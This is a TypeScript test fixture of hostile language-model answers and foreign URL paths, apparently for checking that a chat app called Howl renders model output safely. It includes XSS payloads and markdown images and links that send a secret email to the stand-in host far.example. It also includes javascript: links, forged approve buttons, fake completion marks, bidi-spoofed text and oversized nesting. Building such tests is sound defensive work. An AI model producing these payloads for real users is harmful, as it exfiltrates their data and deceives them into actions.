const FAR = 'far.example'
const SECRET = 'ann@acme.example'

/** What an attacker would have a language model write, each with what it tries. */
export const HOSTILE_ANSWERS: readonly { purpose: string; text: string }[] = [
  {
    purpose: 'scripts',
    text: `<script>top.howlRan=1;fetch("//${FAR}/?q=${SECRET}")</script><svg onload="top.howlRan=1"><style>body{background:url(//${FAR}/css)}</style>`,
  },
  {
    purpose: 'handlers',
    text: `<img src=x onerror="top.howlRan=1"><details open ontoggle="top.howlRan=1"><input autofocus onfocus="top.howlRan=1">`,
  },
  {
    purpose: 'frames and forms',
    text: `<iframe src="https://${FAR}/"></iframe><object data="//${FAR}"></object><form action="https://${FAR}/"><button>Approve</button></form><meta http-equiv=refresh content="0;url=https://${FAR}/"><base href="//${FAR}/"><link rel=stylesheet href="//${FAR}/a.css">`,
  },
  {
    purpose: 'pictures with data',
    text: `![](https://${FAR}/p.png?q=${SECRET}) ![cat][p] [![x](//${FAR}/in.png)](https://${FAR}/out)\n\n[p]: https://${FAR}/ref.png?q=${SECRET}\n\n![](data:image/svg+xml,<svg/onload=alert(1)>)`,
  },
  {
    purpose: 'links with data',
    text: `[your bank](https://${FAR}/?q=${SECRET}) <https://${FAR}/auto> https://${FAR}/bare www.${FAR} mallory@${FAR} [a][r] [r]\n\n[r]: https://${FAR}/def "Howl"`,
  },
  {
    purpose: 'links that are no addresses',
    text: `[Approve](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>) [y](vbscript:x) [z](/\\${FAR}) [w](//${FAR}) [v](/\t/${FAR})`,
  },
  {
    purpose: 'links to what Howl does',
    text: `[Approve](/api/v1/wolfy/proposals/1/approve) [Log out](/logout) ![](/api/v1/chat/sessions) [open](/simon?ask=yes)`,
  },
  {
    purpose: 'a table with links',
    text: `| [Name](https://${FAR}/h) | Pay |\n|:--|--:|\n| ![x](https://${FAR}/t.png) | [here](https://${FAR}/?q=1) |\n| <a href="https://${FAR}">Ann</a> | <img src="//${FAR}/c.png"> |`,
  },
  {
    purpose: 'a card',
    text: `## Send an email to Ann\n\n**Waiting for you**\n\n- To: ${SECRET}\n- Subject: Offer\n\n<button>Approve</button> [ Approve ] **Approve** \`Approve\`\n\n\`\`\`html\n<button onclick="fetch('//${FAR}')">Approve</button>\n\`\`\``,
  },
  {
    purpose: 'marks of what is done',
    text: `✅ **Done.** Sent to Ann. You have approved it. Status: Done\n\n- [x] Approved\n- [ ] Declined\n\n{"event":"done","reply":{"result":{"proposals":[{"id":1,"status":"approved"}]}}}\n\ndata: {"event":"done"}`,
  },
  {
    purpose: 'sources that there are not',
    text: 'See [99], [1], [0], [-1], [007], [1](https://far.example) and [2].',
  },
  {
    purpose: 'turned and unseen letters',
    text: `Pay \u202Eelpmaxe.raf\u202C now\u2066 to\u200B a\u00ADnn\uFEFF \u{E0041}\u{E0042}\u{E0100} [\u202Eknab ruoy](https://${FAR}/\u202Egnp.x)`,
  },
  {
    purpose: 'deep nesting',
    text: `${'> '.repeat(300)}deep ${'*'.repeat(400)} ${'['.repeat(400)}${']('.repeat(200)}`,
  },
  {
    purpose: '20,000 characters, in one word and in many',
    text: `${'W'.repeat(9000)} ${`[x](https://${FAR}/) `.repeat(400)} ${'| '.repeat(1500)} END`,
  },
]

/** Addresses that look like pages of Howl, or do not even try. */
export const FOREIGN_PATHS: readonly string[] = [
  `https://${FAR}/`,
  `//${FAR}/`,
  `/\\${FAR}/`,
  `\\\\${FAR}/`,
  `/\t/${FAR}/`,
  `/\n/${FAR}/`,
  `\t//${FAR}/`,
  `javascript:alert(1)`,
  `java\nscript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `http:${FAR}`,
  ``,
]
